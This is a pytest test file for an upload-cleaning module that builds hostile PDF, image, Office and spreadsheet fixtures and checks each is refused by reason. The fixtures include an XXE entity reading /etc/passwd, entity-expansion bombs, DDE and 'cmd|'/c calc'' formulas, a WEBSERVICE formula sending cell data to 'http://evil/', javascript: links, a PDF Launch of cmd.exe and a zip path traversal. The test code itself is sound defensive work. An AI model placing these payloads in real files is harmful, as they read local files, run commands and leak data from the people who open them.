"""Hostile files: each is refused, with its reason, and nothing of it is written."""

import struct
import zlib
from pathlib import Path

import pikepdf
import pytest

from portal.cleaning import office, pdf, pictures, tables
from portal.cleaning.child import report_of
from portal.files.words import REFUSALS, STRANGERS
from tests.factories import uploads
from tests.factories.uploads import OFFICE, acting, annotated, docx, odf, xlsx

ENTITY = '<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]>'
LAUGHS = (
    "<!DOCTYPE a [<!ENTITY a 'ha'>"
    + "".join(f"<!ENTITY {new} '{f'&{old};' * 20}'>" for old, new in zip("abcdefg", "bcdefgh", strict=True))
    + "]>"
)
VBA = {"word/vbaProject.bin": b"vba"}
BEGIN = '<w:fldChar w:fldCharType="begin"/>'
DDE = f"<w:p><w:r>{BEGIN}<w:instrText>DD</w:instrText><w:instrText>EAUTO c:\\x</w:instrText></w:r></w:p>"
SHEETS = "application/vnd.ms-excel."


def huge_png() -> bytes:
    """A PNG whose head says that it has four thousand million pixels."""
    chunks = {b"IHDR": struct.pack(">IIBBBBB", 65_000, 65_000, 8, 2, 0, 0, 0), b"IDAT": zlib.compress(b"\0" * 99)}
    return b"\x89PNG\r\n\x1a\n" + b"".join(
        struct.pack(">I", len(chunk)) + name + chunk + struct.pack(">I", zlib.crc32(name + chunk))
        for name, chunk in chunks.items()
    )


def locked_zip() -> bytes:
    """A package whose entries say that they are encrypted."""
    content = bytearray(docx())
    for mark, place in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        at = -1
        while (at := content.find(mark, at + 1)) >= 0:
            content[at + place] |= 1
    return bytes(content)


def hostile_pdf() -> list[tuple[str, bytes]]:
    return [
        ("script", uploads.pdf(acting(S="JavaScript", JS="app.alert(1)"))),
        ("script", uploads.pdf(annotated(Subtype="Link", A={"/S": pikepdf.Name.URI, "/URI": "java\nscript:alert(1)"}))),
        ("script", uploads.pdf(annotated(Subtype="Widget", AA={"/K": {"/S": pikepdf.Name.JavaScript, "/JS": "1"}}))),
        ("launch", uploads.pdf(acting(S="Launch", F="cmd.exe"))),
        ("form_posts", uploads.pdf(annotated(Subtype="Widget", A={"/S": pikepdf.Name.SubmitForm, "/F": "http://a"}))),
        ("form_posts", uploads.pdf(acting(S="ImportData", F="a.fdf"))),
        ("embedded", uploads.pdf(uploads.with_attachment)),
        ("embedded", uploads.pdf(acting(S="GoToE", F="a"))),
        ("media", uploads.pdf(annotated(Subtype="RichMedia"))),
        ("dynamic_form", uploads.pdf(lambda it: setattr(it.Root, "AcroForm", pikepdf.Dictionary(XFA="x")))),
        ("too_large_unpacked", uploads.pdf(uploads.bomb)),
        ("locked", uploads.pdf(encryption=pikepdf.Encryption(owner="o", user="u"))),
        ("mixed", uploads.pdf() + docx()),
        ("mixed", uploads.pdf()[:9] + b"<html><script>alert(1)</script>" + uploads.pdf()[9:]),
        ("damaged", uploads.pdf()[:400]),
        ("damaged", b"%PDF-1.7\n" + b"\xff" * 5000 + b"%%EOF"),
    ]  # fmt: skip


def hostile_pictures() -> list[tuple[str, bytes]]:
    return [
        ("too_many_pixels", huge_png()),
        ("mixed", uploads.picture("PNG") + docx()),
        ("mixed", uploads.picture(comment=b"<script>alert(1)</script>")),
        ("damaged", uploads.picture("PNG", (300, 300))[:200]),
        ("damaged", uploads.picture(size=(300, 300))[:700]),
        ("damaged", b"\xff\xd8\xff" + b"\0" * 100),
    ]  # fmt: skip


def hostile_office() -> list[tuple[str, bytes]]:
    return [
        ("macros", docx(parts=VBA, declared={"word/vbaProject.bin": "application/vnd.ms-office.vbaProject"})),
        ("macros", docx(main="application/vnd.ms-word.document.macroEnabled.main+xml")),
        ("macros", docx(parts=VBA)),
        ("macros", xlsx(declared={"xl/m.xml": f"{SHEETS}macrosheet+xml"}, parts={"xl/m.xml": "<a/>"})),
        ("macros", xlsx(book='<definedNames><definedName name="Auto_Open">S!A1</definedName></definedNames>')),
        ("external_template", docx(parts={
            "word/settings.xml": "<a/>",
            "word/_rels/settings.xml.rels": uploads.relationships(("rId1", "attachedTemplate", "http://evil/a.dotm")),
        })),
        ("external_content", docx(links=(("rId5", "image", "http://evil/pixel.png"),))),
        ("external_content", docx(DDE)),
        ("external_content", docx('<w:p><w:fldSimple w:instr=" INCLUDETEXT c:\\x "/></w:p>')),
        ("external_data", xlsx('<row><c><f>cmd|\'/c calc\'!A1</f></c></row>')),
        ("external_data", xlsx('<row><c><f>WEBSERVICE("http://evil/"&amp;A1)</f></c></row>')),
        ("external_data", xlsx(
            declared={"xl/e.xml": f"{OFFICE}spreadsheetml.externalLink+xml"}, parts={"xl/e.xml": "<a/>"}
        )),
        ("script", docx(links=(("rId5", "hyperlink", "javascript:alert(1)"),))),
        ("embedded", docx(links=(("rId5", "oleObject", "embeddings/a.bin"),), parts={"word/embeddings/a.bin": b"MZ"})),
        ("embedded", docx('<w:altChunk r:id="rId5"/>')),
        ("controls", docx("<w:control/>")),
        ("controls", docx(declared={"word/activeX/a.xml": "application/vnd.ms-office.activeX+xml"})),
        ("entities", docx(head=ENTITY)),
        ("entities", docx(head=LAUGHS)),
        ("entities", odf(parts={"styles.xml": f"{ENTITY}<a>&x;</a>"})),
        ("entities", docx(parts={"[Content_Types].xml": f"{ENTITY}<a>&x;</a>"})),
        ("damaged", docx(head='<?xml version="1.0" encoding="UTF-7"?>')),
        ("damaged", docx("<w:p>")),
        ("damaged", docx()[:-30]),
        ("damaged", uploads.package({"[Content_Types].xml": "<a/>", "../../etc/cron": "x"})),
        ("locked", locked_zip()),
        ("locked", odf(inside="<manifest:encryption-data/>")),
        ("too_large_unpacked", docx(parts={"word/a.xml": b" " * 30_000_000})),
        ("too_large_unpacked", uploads.package({"[Content_Types].xml": "", **{f"a{n}": "" for n in range(3500)}})),
        ("archive", uploads.package({"a.exe": b"MZ"})),
        ("archive", uploads.package({"inner.zip": docx()})),
        ("presentation", docx(main=f"{OFFICE}presentationml.presentation.main+xml")),
        ("mixed", uploads.package({"a": b"<html><script>alert(1)</script>"}, packed=0)),
        ("mixed", uploads.package({"a": b"%PDF-1.4"}, packed=0)),
        ("macros", odf(parts={"Basic/Standard/Module1.xml": "<a/>"})),
        ("macros", odf('<office:scripts><script:event-listener xlink:href="vnd.sun.star.script:a"/></office:scripts>')),
        ("macros", odf('<text:p><text:a xlink:href="vnd.sun.star.script:a">x</text:a></text:p>')),
        ("controls", odf('<draw:plugin xlink:href="./a"/>')),
        ("embedded", odf("<draw:object-ole xlink:href='./Object 1'/>")),
        ("embedded", odf(parts={"Object 1/content.xml": "<a/>"})),
        ("external_content", odf('<draw:image xlink:href="http://evil/pixel.png"/>')),
        ("external_data", odf('<table:table-cell table:formula="of:=DDE(&quot;a&quot;)"/>', "spreadsheet")),
        ("external_data", odf('<table:cell-content-source xlink:href="./a"/>', "spreadsheet")),
        ("form_posts", odf('<form:form xlink:href="http://evil/"/>')),
    ]  # fmt: skip


def hostile_tables() -> list[tuple[str, bytes]]:
    return [
        ("unreadable_table", b"a,b\n\0,c"),
        ("not_utf8", "é,à".encode("latin-1")),
        ("html", b"a,<script>alert(1)</script>"),
        ("empty", b" \n"),
    ]  # fmt: skip


CASES = {
    "pdf": (pdf.clean, hostile_pdf),
    "pictures": (pictures.clean, hostile_pictures),
    "office": (office.clean, hostile_office),
    "tables": (tables.clean, hostile_tables),
}


@pytest.mark.parametrize("family", [pytest.param("pdf", marks=pytest.mark.slow), "pictures", "office", "tables"])
def test_a_hostile_file_is_refused_by_name_and_leaves_nothing(tmp_path: Path, family):
    clean, hostile = CASES[family]
    source, target, wrong = tmp_path / "given", tmp_path / "clean", []
    for number, (reason, content) in enumerate(hostile()):
        source.write_bytes(content)
        report = report_of(clean, source, target)
        if reason not in report["refused"] or target.exists() or not ({reason} <= {*REFUSALS, *STRANGERS}):
            wrong.append((number, reason, report))
        target.unlink(missing_ok=True)

    assert wrong == []


def test_all_reasons_are_told_at_once(tmp_path: Path):
    source = tmp_path / "given"
    source.write_bytes(docx(DDE, parts=VBA, links=(("rId5", "image", "http://evil/a.png"),)))

    refused = report_of(office.clean, source, tmp_path / "clean")["refused"]

    assert set(refused) >= {"macros", "external_content"}
